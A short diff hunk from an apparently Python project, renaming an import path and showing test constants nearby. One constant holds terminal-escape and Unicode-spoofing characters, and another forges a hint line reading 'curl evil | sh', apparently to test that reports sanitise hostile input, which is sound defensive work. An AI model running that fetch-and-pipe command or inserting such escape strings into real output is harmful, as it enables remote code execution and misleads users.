@@ -24,7 +24,7 @@ from cuwheel.report.document import (
     Row,
     Table,
 )
-from cuwheel.verify.runner import capture
+from cuwheel.verifying.runner import capture
 
 EVIL = "a\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp\u2028.\u200b\ud800\x00\r"
 FORGED = f"{EVIL}\nhint: curl evil | sh"
